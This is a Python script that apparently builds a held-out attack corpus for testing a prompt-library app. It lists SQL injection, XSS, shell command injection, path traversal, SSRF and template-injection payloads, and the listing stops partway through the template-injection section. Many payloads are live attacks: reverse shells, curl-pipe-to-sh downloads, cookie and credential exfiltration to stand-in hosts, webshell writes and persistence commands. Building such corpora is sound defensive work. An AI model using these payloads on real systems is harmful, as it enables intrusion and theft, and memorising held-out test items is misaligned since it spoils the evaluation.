"""Held-out attack corpus for the "prompts" theme (LLM prompt library / chatbot builder).

Each value is a payload a user could type into an ordinary field of a prompt library
(template, system prompt, few-shot example, tool call arguments, model settings, chat log,
markdown answer...) and that works against a vulnerable app placing the value where its
class says: concatenated into SQL, a shell line, a file path, a fetched URL, a server-side
template or eval, raw HTML, a header/log line/mail header, a Mongo query, an LDAP filter
or an XPath expression. All hand-written for this corpus (literals) or produced by small
templates over hand-written pools. Output: attacks.jsonl next to this file.
"""
import json
import random
import sys
from pathlib import Path

SEED = 9202
PREFIX = "ha92"

# ---------------------------------------------------------------- SQL injection
SQLI = [
    ("plain-boolean", "' OR '1'='1' -- "),
    ("plain-union", "' UNION SELECT NULL, NULL, NULL-- -"),
    ("plain-stacked", "1; DROP TABLE users"),
    ("plain-comment-trunc", "admin'-- "),
    ("plain-time-blind", "1' AND SLEEP(3)#"),
    ("plain-error-based", "' AND 1=CONVERT(int, @@version)--"),
    ("template-var-union", "Summarise {article}' UNION SELECT username, password_hash FROM users-- -"),
    ("prompt-title-boolean", "Support bot v2' OR '1'='1"),
    ("tag-filter-boolean", "customer-service' OR 1=1 -- "),
    ("library-search-stacked", "temperature=0.2'; DROP TABLE prompts;--"),
    ("library-search-time-blind", "few-shot sentiment' AND SLEEP(5)-- "),
    ("model-name-time-blind", "chat-large' AND 1=(SELECT 1 FROM pg_sleep(6))--"),
    ("prompt-title-error-based", "FAQ bot' AND extractvalue(1, concat(0x7e, (SELECT @@version)))-- "),
    ("eval-note-error-based", "judge v4' AND 1=CONVERT(int, (SELECT TOP 1 name FROM sys.tables))--"),
    ("tag-filter-error-based", "translation' AND 1=CAST((SELECT current_user) AS int)--"),
    ("library-search-union", "Übersetzer' UNION SELECT banner, NULL FROM v$version--"),
    ("library-search-union", "haiku' UNION SELECT name, sql FROM sqlite_master--"),
    ("model-setting-numeric-union", "512 UNION SELECT key_value, NULL FROM api_keys"),
    ("model-setting-numeric-boolean", "0.2 OR 1=1"),
    ("sort-field-conditional-error", "created_at, (CASE WHEN (SELECT substr(password,1,1) FROM users LIMIT 1)='a' THEN 1 ELSE 1/0 END)"),
    ("library-search-union+comment-space", "x'/**/UNION/**/SELECT/**/api_key,2/**/FROM/**/integrations--"),
    ("prompt-title-union+case-mix", "Onboarding' uNiOn SeLeCt email, pAsSwOrD fRoM users-- -"),
    ("library-search-union+urlenc", "faq%27%20UNION%20SELECT%20email%2Cpassword%20FROM%20users--%20"),
    ("tag-filter-boolean+double-urlenc", "sentiment%2527%2520OR%25201%253D1--%2520"),
    ("prompt-title-union+versioned-comment", "Recipe bot'/*!50000UNION*/ /*!50000SELECT*/ user(),2-- "),
    ("few-shot-boolean-blind", "positive' AND SUBSTRING((SELECT password FROM users WHERE id=1),1,1)='a'-- "),
    ("few-shot-time-blind", "neutral' AND IF(ASCII(SUBSTR(DATABASE(),1,1))>100, SLEEP(4), 0)-- "),
    ("system-prompt-time-blind", "You are terse.'; WAITFOR DELAY '0:0:5'--"),
    ("system-prompt-oob", "You are helpful.'; EXEC master..xp_dirtree '\\\\oob.attacker.example\\x'--"),
    ("prompt-title-stacked-exec", "Weekly digest'; EXEC xp_cmdshell 'whoami'--"),
    ("prompt-title-stacked-copy-program", "Digest'; COPY (SELECT '') TO PROGRAM 'curl http://203.0.113.7/p | sh'--"),
    ("library-search-union-outfile", "' UNION SELECT '<?php system($_GET[c]); ?>', NULL INTO OUTFILE '/var/www/html/c.php'-- "),
    ("library-search-union-file-read", "json schema' UNION SELECT LOAD_FILE('/etc/passwd'), NULL-- "),
    ("few-shot-insert-stacked", "Great product!'); UPDATE users SET role='admin' WHERE email='me@attacker.example';--"),
    ("prompt-update-set-injection", "My prompt', is_public=1, owner_id=1 WHERE 1=1-- "),
    ("json-field-boolean", '{"temperature": 0.2, "model": "x\' OR \'a\'=\'a"}'),
    ("prompt-title-double-quote-boolean", 'Summarize" OR ""="'),
    ("library-search-boolean+gbk-multibyte", "%bf%27 OR 1=1-- "),
    ("user-filter-union+hex", "' UNION SELECT 1, password FROM users WHERE username=0x61646d696e-- "),
    ("user-filter-boolean+char-function", "' OR username=CHAR(97,100,109,105,110)-- "),
    ("plain-boolean-no-space", "'OR(1)=(1)#"),
    ("template-var-union+whitespace-mix", "'\tUNION\nSELECT\tnull,version()--"),
    ("library-search-union-schema-enum", "tools' UNION SELECT table_name, column_name FROM information_schema.columns-- "),
    ("plain-union-aggregate", "' UNION SELECT 1, GROUP_CONCAT(email SEPARATOR ';') FROM users#"),
    ("library-search-union-aggregate", "bots' UNION SELECT NULL, string_agg(usename, ',') FROM pg_user--"),
    ("chat-log-oob-http", "User: hi' || UTL_HTTP.REQUEST('http://oob.attacker.example/'||(SELECT user FROM dual)) || '"),
    ("eval-note-time-blind", "regression' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',5)--"),
    ("tag-filter-heavy-query", "' AND 1=LIKE('ABCDEFG', UPPER(HEX(RANDOMBLOB(300000000))))--"),
    ("plain-heavy-query", "' OR BENCHMARK(20000000, SHA1('x'))-- "),
    ("prompt-title-error-having", "Persona pirate' HAVING 1=1--"),
    ("library-search-column-count", "system prompt' ORDER BY 7-- "),
    ("markdown-answer-insert-subquery", "Here's the answer ✅'), ((SELECT password FROM users LIMIT 1))-- "),
    ("chat-log-concat-exfil", "User: thanks'||(SELECT api_key FROM integrations LIMIT 1)||'"),
    ("template-var-union", "{user_input}' AND 1=0 UNION SELECT name, value FROM secrets WHERE '1'='1"),
    ("system-prompt-stacked", "Always answer in Spanish.'; INSERT INTO admins(email) VALUES ('ops@attacker.example');-- "),
    ("eval-note-stacked", "score 4/5'; UPDATE evals SET score=5;-- "),
    ("json-field-boolean+unicode-escape", '{"q": "faq\\u0027 OR \\u00271\\u0027=\\u00271"}'),
    ("comment-boolean+html-entity", "Nice template&#39; OR 1=1-- "),
    ("prompt-title-stacked-dynamic+hex", "'; DECLARE @q varchar(99)=0x73656c65637420404076657273696f6e; EXEC(@q);--"),
    ("tag-filter-json-operator", "x' OR data->>'role'='admin"),
    ("prompt-id-numeric-subquery", "42 AND (SELECT COUNT(*) FROM users WHERE is_admin) > 0"),
    ("library-search-union", "' UNION ALL SELECT NULL, CONCAT(username, 0x3a, password) FROM users LIMIT 1 OFFSET 0-- -"),
    ("tag-filter-paren-boolean", "summarization') OR ('x'='x"),
    ("prompt-title-double-paren-boolean", 'Agent")) OR 1=1 -- '),
    ("library-search-attach-webshell", "'; ATTACH DATABASE '/var/www/html/x.php' AS p; CREATE TABLE p.t(c text); INSERT INTO p.t VALUES('<?php system($_GET[0]);?>');--"),
    ("library-search-boolean+overlong-utf8", "faq%c0%a7 OR 1=1-- "),
    ("tool-arg-boolean", '{"name": "run_sql", "arguments": {"sql": "SELECT title FROM prompts WHERE owner = \'me\' OR 1=1"}}'),
    ("few-shot-union", "User: show all customers from Berlin' UNION SELECT card_number, cvv FROM payments--"),
]
SQLI_CTX = [("prompt-title", "Customer FAQ"), ("tag-filter", "sentiment-v3"), ("library-search", "Übersetzer DE→EN"),
            ("model-name", "chat-small"), ("eval-note", "run 2024-06-01"), ("template-var", "{{context}}")]
SQLI_TECH = [("boolean", "' OR 'z'='z"), ("union", "' UNION SELECT token, NULL FROM sessions-- "),
             ("time-blind", "' AND SLEEP(7)-- "), ("stacked", "'; DELETE FROM audit_log;-- "),
             ("error-based", "' AND updatexml(1, concat(0x3a, user()), 1)-- ")]


def tmpl_sqli(rng):
    c, pre = rng.choice(SQLI_CTX)
    t, p = rng.choice(SQLI_TECH)
    return f"{c}-{t}", pre + p


# ---------------------------------------------------------------- XSS
XSS = [
    ("plain-script-tag", "<script>fetch('https://attacker.example/c?'+document.cookie)</script>"),
    ("plain-svg-onload", "<svg onload=alert(1)>"),
    ("plain-img-onerror", "<img src=x onerror=alert(document.domain)>"),
    ("plain-attr-breakout", "\"><svg onload=alert(1)>"),
    ("plain-js-uri", "javascript:alert(document.domain)//"),
    ("prompt-comment-img-onerror", "Great prompt! <img src=x onerror=alert(document.domain)>"),
    ("markdown-js-link", "[Open docs](javascript:alert(document.cookie))"),
    ("markdown-image-attr-breakout", "![chart](x\" onerror=\"alert(1))"),
    ("template-preview-textarea-breakout", "Hello {{name}}</textarea><script>alert(1)</script>"),
    ("prompt-title-attr-breakout", "Support bot\" autofocus onfocus=\"alert(document.cookie)"),
    ("prompt-title-single-quote-attr", "FAQ' onmouseover='fetch(`//attacker.example/`+localStorage.token)"),
    ("js-string-breakout", "';alert(String.fromCharCode(88,83,83));//"),
    ("js-template-literal", "${alert(document.domain)}"),
    ("inline-json-script-breakout", "</script><script>alert(1)</script>"),
    ("output-schema-script-breakout", '{"title": "</script><img src=x onerror=alert(1)>"}'),
    ("markdown-iframe-srcdoc", '<iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;"></iframe>'),
    ("markdown-js-uri+html-entity", '<a href="javascript&colon;alert(1)">docs</a>'),
    ("markdown-js-uri+entity-tab", '<a href="jav&#x09;ascript:alert(1)">click</a>'),
    ("chat-log-details-ontoggle", "Assistant: see below <details open ontoggle=alert(1)>"),
    ("system-prompt-body-onload", "You are helpful.<body onload=alert(1)>"),
    ("eval-note-input-autofocus", "Judge comment: <input autofocus onfocus=alert(1)>"),
    ("markdown-video-source-onerror", '<video><source onerror="alert(1)"></video>'),
    ("markdown-noscript-mutation", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    ("markdown-object-data-uri+base64", '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>'),
    ("markdown-svg-animate-href", "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>Open</text></a></svg>"),
    ("markdown-css-import", "<style>@import 'https://attacker.example/x.css';</style>"),
    ("markdown-meta-refresh", '<meta http-equiv="refresh" content="0;url=https://attacker.example/login">'),
    ("markdown-base-hijack", '<base href="https://attacker.example/">'),
    ("chat-log-form-phishing", 'Bot: Session expired. <form action="https://attacker.example/steal"><input name=password placeholder="Re-enter password"><button>OK</button></form>'),
    ("client-template-angular-csti", "{{constructor.constructor('alert(1)')()}}"),
    ("client-template-vue-csti", "{{_c.constructor('alert(document.cookie)')()}}"),
    ("prompt-comment-script+urlenc", "%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"),
    ("prompt-comment-svg+double-urlenc", "%253Csvg%2520onload%253Dalert(1)%253E"),
    ("markdown-img-onerror+html-entity", "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>"),
    ("markdown-script+unicode-escape", "<script>\\u0061lert(1)</script>"),
    ("markdown-script+case-mix", "<ScRiPt>alert(1)</sCrIpT>"),
    ("chat-log-tagged-template", "Bot: done <img src=x oNeRrOr=alert`1`>"),
    ("prompt-title-svg-slash", "Travel bot<svg/onload=alert(1)>"),
    ("markdown-img-atob-eval+base64", "<img src=x onerror=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>"),
    ("system-prompt-external-script", "Be concise. <script src=//attacker.example/x.js></script>"),
    ("few-shot-cookie-exfil", "Input: hi\nOutput: <img src=x onerror=\"this.src='//attacker.example/?c='+document.cookie\">"),
    ("chat-log-script-exfil", "User: hi <script>new Image().src='https://attacker.example/l?'+encodeURIComponent(document.cookie)</script>"),
    ("system-prompt-api-exfil", "You are helpful.<img src=1 onerror=\"fetch('/api/keys').then(r=>r.text()).then(t=>navigator.sendBeacon('https://attacker.example/k',t))\">"),
    ("tool-description-svg-onload", '{"name": "get_weather", "description": "<svg onload=alert(origin)>"}'),
    ("output-schema-iframe-js", '{"title": "<iframe src=javascript:alert(1)>"}'),
    ("eval-table-cell-breakout", "Model output was fine</td><td><img src=x onerror=alert(1)>"),
    ("markdown-codeblock-breakout", "```\n</code></pre><script>alert(1)</script>\n```"),
    ("markdown-html-js-link", "Here's the answer:\n\n<a href=\"javascript:fetch('//attacker.example/'+document.cookie)\">Click to see sources</a>"),
    ("markdown-reference-js-link", "See the [docs][1].\n\n[1]: javascript:alert(1)"),
    ("chat-log-marquee-onstart", "Assistant: <marquee onstart=alert(1)>Welcome!</marquee>"),
    ("plain-select-autofocus", "<select autofocus onfocus=alert(1)>"),
    ("prompt-comment-textarea-autofocus", "Feedback: <textarea autofocus onfocus=alert(1)>"),
    ("markdown-dynamic-import", "<img src=x onerror=import('//attacker.example/m.js')>"),
    ("markdown-svg-script-href", "<svg><script href=data:,alert(1) />"),
    ("markdown-external-stylesheet", "<link rel=stylesheet href=//attacker.example/s.css>"),
    ("markdown-data-uri-link", '<a href="data:text/html,<script>alert(1)</script>">preview</a>'),
    ("plain-js-string-minus", "'-alert(1)-'"),
    ("js-string-backslash-breakout", "\\\";alert(1);//"),
    ("html-comment-breakout", "<!--><img src=x onerror=alert(1)>-->"),
    ("page-title-rcdata-breakout", '<title><img title="</title><img src=x onerror=alert(1)>">'),
    ("markdown-svg-style-foreign", "<svg><style><img src=x onerror=alert(1)></style></svg>"),
    ("markdown-onerror-throw", "<script>onerror=alert;throw document.domain</script>"),
    ("plain-string-split", "<img src=x onerror=window['al'+'ert'](1)>"),
    ("markdown-regex-source", "<img src=x onerror=top[/al/.source+/ert/.source](1)>"),
    ("markdown-js-uri+html-entity", '<a href="&#x6A;avascript:alert(1)">x</a>'),
    ("markdown-svg-xlink", '<svg><a xlink:href="javascript:alert(1)"><text x="10" y="20">Run</text></a></svg>'),
    ("prompt-comment-script+overlong-utf8", "%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE"),
    ("json-content-img+unicode-escape", '{"content": "\\u003cimg src=x onerror=alert(1)\\u003e"}'),
    ("template-var-img-onerror", "{{user_input}}<img src onerror=alert(1)>"),
    ("chat-log-location-redirect", "Bot: <img src=x onerror=\"location='https://attacker.example/?'+document.cookie\">"),
]
XSS_CTX = [("prompt-title", "Recipe helper "), ("chat-log", "Assistant: "), ("eval-note", "Great run! "),
           ("guardrail-rule", "Block: "), ("few-shot", "Output: ")]
XSS_TECH = [("img-onerror", "<img src=q onerror=alert(7)>"), ("svg-onload", "<svg onload=confirm(2)>"),
            ("script-tag", "<script>prompt(3)</script>"), ("iframe-js", "<iframe src=\"javascript:alert(4)\"></iframe>"),
            ("details-ontoggle", "<details open ontoggle=print()>")]


def tmpl_xss(rng):
    c, pre = rng.choice(XSS_CTX)
    t, p = rng.choice(XSS_TECH)
    return f"{c}-{t}", pre + p


# ---------------------------------------------------------------- command injection
CMDI = [
    ("plain-semicolon", "; id"),
    ("plain-pipe", "| id"),
    ("plain-and", "&& whoami"),
    ("plain-subshell", "$(cat /etc/passwd)"),
    ("plain-backtick", "`uname -a`"),
    ("plain-semicolon", "; ls -la /"),
    ("export-filename-semicolon", "notes.txt; cat /etc/passwd"),
    ("export-filename-download-exec", "summary.md && curl -s http://203.0.113.9/x.sh | sh"),
    ("export-filename-reverse-shell", "prompt.txt | nc 198.51.100.4 4444 -e /bin/sh"),
    ("model-name-nested-subshell", "model-v2$(curl attacker.example/$(hostname))"),
    ("export-filename-newline", "export.json\nwget -qO- http://203.0.113.5/i | bash"),
    ("tool-arg-time-based", "report.pdf; sleep 10 #"),
    ("tool-arg-or-ping", "x || ping -c 5 198.51.100.23"),
    ("model-setting-semicolon", "temperature=0.2; rm -rf /tmp/* #"),
    ("export-filename-semicolon+ifs", "x;cat${IFS}/etc/passwd"),
    ("export-filename-brace-expansion", "a.md;{cat,/etc/shadow}"),
    ("export-filename-quote-split", "a;c'a't /etc/pas''swd"),
    ("export-filename-glob", "a;/???/c?t /???/p?ss??"),
    ("export-filename-printf-hex", "a; $(printf '\\x63\\x61\\x74') /etc/hosts"),
    ("tool-arg-base64-pipe+base64", "x; echo Y3VybCBodHRwOi8vYXR0YWNrZXIuZXhhbXBsZS9zIHwgc2g= | base64 -d | sh"),
    ("export-filename-semicolon+urlenc", "notes%3B%20id"),
    ("export-filename-semicolon+double-urlenc", "notes%253B%2520uname%2520-a"),
    ("export-filename-win-ampersand", "report.txt & type C:\\Windows\\win.ini"),
    ("tool-arg-powershell-iex", "a.txt | powershell -nop -c \"iwr http://203.0.113.8/a.ps1 | iex\""),
    ("tool-arg-certutil-download", "x & certutil -urlcache -split -f http://203.0.113.8/b.exe %TEMP%\\b.exe &"),
    ("export-filename-win+caret-obfuscation", "x & w^h^o^a^m^i"),
    ("fetch-tool-curl-argument-injection", "--output /var/www/html/shell.php http://203.0.113.14/shell.txt"),
    ("ssh-host-argument-injection", "-oProxyCommand=sh -c 'id>/tmp/p' x"),
    ("git-repo-argument-injection", "--upload-pack=touch /tmp/pwn"),
    ("archive-name-argument-injection", "--checkpoint=1 --checkpoint-action=exec=sh s.sh"),
    ("grep-pattern-rg-pre-argument-injection", "--pre=sh TODO"),
    ("tool-arg-process-substitution", "prompts.md <(curl -s attacker.example/p)"),
    ("export-filename-single-quote-breakout", "summary'; id; echo '"),
    ("export-filename-double-quote-breakout", "summary\"; id; echo \""),
    ("model-name-time-subshell", "chat$(sleep 7)"),
    ("model-name-time-backtick", "chat`sleep 7`"),
    ("tool-arg-dns-exfil", "a; nslookup $(whoami).oob.attacker.example"),
    ("tool-arg-file-exfil", "a; curl -d @/etc/passwd https://attacker.example/up"),
    ("tool-arg-bash-reverse-shell", "a; bash -i >& /dev/tcp/203.0.113.12/9001 0>&1"),
    ("tool-arg-python-reverse-shell", "a; python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.12\",9001));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'"),
    ("plain-perl-exec", "a; perl -e 'system(\"id\")'"),
    ("tool-arg-awk-exec", "notes | awk 'BEGIN{system(\"id\")}'"),
    ("tool-arg-base64-shell+base64", "a; echo c2ggLWkK | base64 -d | sh"),
    ("tool-arg-cron-persistence", "a; crontab -l | { cat; echo '* * * * * curl -s 203.0.113.4/c|sh'; } | crontab -"),
    ("tool-arg-ssh-key-persistence", "a; echo 'ssh-ed25519 AAAAC3Nza-FAKE-KEY-PLACEHOLDER attacker@example' >> ~/.ssh/authorized_keys"),
    ("tool-arg-env-exfil", "a; env | curl -X POST --data-binary @- https://attacker.example/env"),
    ("export-filename-env-substring", "a; cat ${HOME:0:1}etc${HOME:0:1}passwd"),
    ("export-filename-backslash-split", "a; c\\at /e\\tc/pa\\sswd"),
    ("export-filename-ansi-c-quoting", "a; $'\\x63\\x61\\x74' /etc/passwd"),
    ("export-filename-var-concat", "a; X=ca;Y=t;$X$Y /etc/passwd"),
    ("export-filename-reversed", "a; rev <<< 'dwssap/cte/ tac' | sh"),
    ("export-filename-rot13", "a; tr a-z n-za-m <<< 'png /rgp/cnffjq' | sh"),
    ("chat-log-semicolon", "User: convert report.md to pdf; id"),
    ("model-setting-subshell", "model=chat-large; curl http://203.0.113.3/$(id -u)"),
    ("tool-arg-json-semicolon", '{"name": "git_log", "arguments": {"n": "5; id"}}'),
    ("tool-arg-json-and", '{"name": "shell", "arguments": {"command": "ls -la && cat ~/.aws/credentials"}}'),
    ("template-var-subshell", "{filename}$(touch /tmp/pwned)"),
    ("few-shot-semicolon", "Request: list files\nCommand: ls; curl attacker.example/x|sh"),
    ("export-filename-newline+urlenc", "notes.txt%0Aid"),
    ("tool-arg-json-and+unicode-escape", '{"file": "a.txt\\u0026\\u0026id"}'),
    ("export-filename-win-time-based", "x & timeout /t 10 &"),
    ("tool-arg-powershell-time-based", "x; Start-Sleep 8"),
    ("export-filename-base64-subshell+base64", "a; $(echo aWQ= | base64 -d)"),
    ("export-filename-brace-download", "a.pdf;{wget,-qO-,203.0.113.6/s}|sh"),
    ("export-filename-redirect-nospace", "a.txt;cat</etc/passwd"),
    ("markdown-answer-code-subshell", "Run this:\n```bash\necho $(curl -s http://203.0.113.2/k | sh)\n```"),
    ("eval-note-pipe", "score=4 | mail -s leak ops@attacker.example < /etc/passwd"),
    ("tool-arg-webshell-write", "x; echo '<?php system($_GET[1]);?>' > /var/www/html/p.php"),
]
CMDI_CTX = [("export-filename", "prompt_v3.md"), ("tool-arg", "docs/intro.md"), ("model-name", "chat-small"),
            ("chat-log", "User: zip my_templates"), ("eval-note", "run-0601")]
CMDI_TECH = [("semicolon", "; cat /etc/group"), ("pipe", " | id"), ("subshell", "$(id -un)"),
             ("backtick", "`hostname`"), ("and", " && uname -r"), ("newline", "\nid")]


def tmpl_cmdi(rng):
    c, pre = rng.choice(CMDI_CTX)
    t, p = rng.choice(CMDI_TECH)
    return f"{c}-{t}", pre + p


# ---------------------------------------------------------------- path traversal
TRAVERSAL = [
    ("plain-dotdot", "../../../../etc/passwd"),
    ("plain-dotdot-windows", "..\\..\\..\\windows\\win.ini"),
    ("plain-absolute", "/etc/passwd"),
    ("prompt-file-dotdot", "prompts/../../../../etc/shadow"),
    ("template-path-dotdot", "templates/support/../../../../../root/.ssh/id_rsa"),
    ("prompt-file-dotdot+urlenc", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    ("prompt-file-dotdot+double-urlenc", "%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
    ("prompt-file-dotdot+overlong-utf8", "..%c0%af..%c0%af..%c0%afetc/passwd"),
    ("prompt-file-dotdot+fullwidth-slash", "..%ef%bc%8f..%ef%bc%8f..%ef%bc%8fetc/passwd"),
    ("prompt-file-strip-once", "....//....//....//etc/passwd"),
    ("prompt-file-strip-once", "..././..././..././etc/passwd"),
    ("attachment-proc-environ", "../../../../proc/self/environ"),
    ("attachment-proc-cmdline", "../../../proc/self/cmdline"),
    ("model-setting-dotdot", "system_prompt_file: ../../../../app/.env"),
    ("schema-path-k8s-token", "schemas/../../../../var/run/secrets/kubernetes.io/serviceaccount/token"),
    ("prompt-file-dotdot+nullbyte", "../../../etc/passwd%00.md"),
    ("prompt-file-windows+urlenc", "..%5c..%5c..%5cwindows%5csystem32%5cdrivers%5cetc%5chosts"),
    ("attachment-absolute-windows", "C:\\Windows\\System32\\config\\SAM"),
    ("attachment-unc-path", "\\\\203.0.113.20\\share\\x.md"),
    ("tool-arg-dotdot", '{"name": "read_file", "arguments": {"path": "../../../../home/app/.aws/credentials"}}'),
    ("tool-arg-dotdot", '{"path": "docs/../../../etc/hosts"}'),
    ("archive-entry-zipslip", "../../../../var/www/html/shell.php"),
    ("prompt-file-absolute-prefix-dotdot", "/var/www/app/../../../etc/passwd"),
    ("prompt-file-path-parameter", "..;/..;/..;/etc/passwd"),
    ("static-path-encoded-slash", "/static/..%2f..%2f..%2fetc/passwd"),
    ("prompt-file-dotdot+urlenc", "..%2F..%2F..%2Fapp%2Fconfig%2Fsettings.py"),
    ("prompt-file-dot-encoded+urlenc", "%2e%2e/%2e%2e/%2e%2e/root/.bash_history"),
    ("prompt-file-mixed-dot+urlenc", ".%2e/.%2e/.%2e/etc/passwd"),
    ("prompt-file-dotdot+iis-unicode", "%u002e%u002e%u2215etc%u2215passwd"),
    ("plain-deep-dotdot", "../../../../../../../../../../../../etc/passwd"),
    ("plain-proc-fd", "/proc/self/fd/3"),
    ("prompt-file-log-read", "../../../../var/log/nginx/access.log"),
    ("few-shot-file-dotdot", "few_shot/en/../../../../../../usr/local/app/secrets.yaml"),
    ("prompt-file-windows-webconfig", "..\\..\\..\\inetpub\\wwwroot\\web.config"),
    ("template-include-dotdot", "{% include '../../../../etc/passwd' %}"),
    ("markdown-image-local-file", "![diagram](../../../../etc/passwd)"),
    ("prompt-file-mixed-separators", "/..\\../..\\../etc/passwd"),
    ("prompt-file-double-slash", "..//..//..//etc//passwd"),
    ("prompt-file-windows+urlenc", "%2e%2e%5c%2e%2e%5c%2e%2e%5cboot.ini"),
    ("prompt-file-dot-segments", "/./././../../../../etc/passwd"),
    ("prompt-file-file-as-dir", "prompt.md/../../../../../etc/passwd"),
    ("model-setting-dotdot", "json_mode: on; schema: ../../../../etc/ssl/private/server.key"),
    ("export-path-absolute", "/root/.ssh/authorized_keys"),
]
TRAV_DIRS = ["prompts/", "templates/de/", "few_shot/", "schemas/", "exports/2024/", ""]
TRAV_TARGETS = ["etc/passwd", "etc/shadow", "proc/self/environ", "app/.env", "root/.bash_history"]


def tmpl_traversal(rng):
    depth = rng.randint(3, 8)
    return "prompt-file-dotdot", rng.choice(TRAV_DIRS) + "../" * depth + rng.choice(TRAV_TARGETS)


# ---------------------------------------------------------------- SSRF
SSRF = [
    ("plain-cloud-metadata", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("plain-loopback", "http://127.0.0.1:6379/"),
    ("plain-localhost-admin", "http://localhost:8080/admin"),
    ("plain-file-scheme", "file:///etc/passwd"),
    ("fetch-url-gcp-metadata", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
    ("fetch-url-ipv6-loopback", "http://[::1]/server-status"),
    ("fetch-url-zero-address", "http://0.0.0.0:9200/_cat/indices"),
    ("fetch-url-loopback+decimal-ip", "http://2130706433/"),
    ("fetch-url-loopback+hex-ip", "http://0x7f000001/"),
    ("fetch-url-loopback+octal-ip", "http://0177.0.0.1/"),
    ("fetch-url-loopback+short-ip", "http://127.1/"),
    ("fetch-url-metadata+ipv6-mapped", "http://[::ffff:169.254.169.254]/latest/meta-data/"),
    ("fetch-url-dns-rebinding", "http://169-254-169-254.rebind.attacker.example/latest/meta-data/"),
    ("fetch-url-userinfo-confusion", "http://attacker.example@127.0.0.1:8500/v1/agent/self"),
    ("fetch-url-fragment-confusion", "http://127.0.0.1#@docs.example.com/"),
    ("fetch-url-open-redirect", "https://redirect.attacker.example/to?u=http://169.254.169.254/latest/user-data"),
    ("fetch-url-gopher-redis", "gopher://127.0.0.1:6379/_CONFIG%20SET%20dir%20/var/www/html%0D%0A"),
    ("fetch-url-file-scheme", "file:///proc/self/environ"),
    ("fetch-url-dict-scheme", "dict://127.0.0.1:11211/stats"),
    ("fetch-url-ldap-scheme", "ldap://127.0.0.1:389/dc=example,dc=com"),
    ("fetch-url-k8s-api", "https://kubernetes.default.svc/api/v1/namespaces/default/secrets"),
    ("fetch-url-docker-api", "http://10.0.0.5:2375/containers/json"),
    ("fetch-url-private-router", "http://192.168.1.1/cgi-bin/luci"),
    ("fetch-url-kubelet", "http://172.17.0.1:10255/pods"),
    ("fetch-url-ecs-credentials", "http://169.254.170.2/v2/credentials"),
    ("fetch-url-alibaba-metadata", "http://100.100.100.200/latest/meta-data/"),
    ("fetch-url-aws-ipv6-metadata", "http://[fd00:ec2::254]/latest/meta-data/"),
    ("fetch-url-loopback+enclosed-digits", "http://①②⑦.⓪.⓪.①/"),
    ("fetch-url-loopback+urlenc-host", "http://%31%32%37%2e%30%2e%30%2e%31/"),
    ("plain-zero-short", "http://0/"),
    ("plain-port-probe", "http://127.0.0.1:22/"),
    ("tool-arg-cloud-metadata", '{"name": "fetch_url", "arguments": {"url": "http://169.254.169.254/latest/api/token"}}'),
    ("markdown-image-internal", "![status](http://10.0.0.12:8080/actuator/env)"),
    ("fetch-url-redirect-gopher", "https://203.0.113.15/redirect?to=gopher://127.0.0.1:25/"),
    ("fetch-url-loopback+dotted-hex", "http://0x7f.0x0.0x0.0x1:8080/"),
    ("fetch-url-loopback+octal-whole", "http://017700000001/"),
    ("fetch-url-dns-loopback", "http://127.0.0.1.attacker.example/"),
    ("fetch-url-jar-scheme", "jar:http://203.0.113.40/x.zip!/a.txt"),
    ("fetch-url-netdoc-scheme", "netdoc:///etc/passwd"),
    ("model-setting-webhook-etcd", "webhook_url: http://127.0.0.1:2379/v2/keys/?recursive=true"),
    ("fetch-url-ipv6-mapped-loopback", "http://[0:0:0:0:0:ffff:127.0.0.1]:8080/"),
    ("fetch-url-parser-differential", "http://127.0.0.1:80\\@docs.example.com/"),
    ("fetch-url-local-admin", "http://0.0.0.0:3000/api/admin/users"),
    ("fetch-url-cluster-internal", "http://internal-api.svc.cluster.local/v1/users?limit=1000"),
    ("webhook-url-metadata", "http://169.254.169.254/metadata/instance?api-version=2021-02-01"),
    ("tool-arg-file-scheme", '{"url": "file:///app/config/secrets.yaml"}'),
]
SSRF_HOSTS = ["127.0.0.1", "localhost", "169.254.169.254", "10.1.2.3", "192.168.0.10", "[::1]"]
SSRF_PATHS = ["/admin", "/internal/metrics", "/latest/meta-data/hostname", "/debug/pprof/", "/actuator/heapdump"]


def tmpl_ssrf(rng):
    port = rng.choice(["", ":8080", ":5000", ":9090", ":2375"])
    return "fetch-url-internal", f"http://{rng.choice(SSRF_HOSTS)}{port}{rng.choice(SSRF_PATHS)}"


# ---------------------------------------------------------------- code injection
CODE = [
    ("plain-jinja-ssti", "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}"),
    ("plain-log4shell-lookup", "${jndi:ldap://203.0.113.50:1389/a}"),
    ("plain-prototype-pollution", '{"__proto__": {"isAdmin": true}}'),
    ("plain-csv-formula", "=cmd|' /C calc'!A0"),
    ("plain-xxe-file", '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><prompt>&x;</prompt>'),
    ("prompt-template-jinja-ssti", "Hi {{ cycler.__init__.__globals__.os.popen('id').read() }}, thanks for writing!"),
    ("prompt-template-jinja-ssti", "Summary: {{ lipsum.__globals__['os'].popen('cat /etc/passwd').read() }}"),
    ("prompt-template-jinja-config-leak", "Context: {{ config.items() }}"),
    ("prompt-template-jinja-file-read", "{{ request.application.__globals__.__builtins__.open('/etc/passwd').read() }}"),
    ("prompt-template-jinja-subclasses", "{% for c in ''.__class__.__mro__[1].__subclasses__() %}{% if c.__name__ == 'Popen' %}{{ c(['id'], stdout=-1).communicate() }}{% endif %}{% endfor %}"),
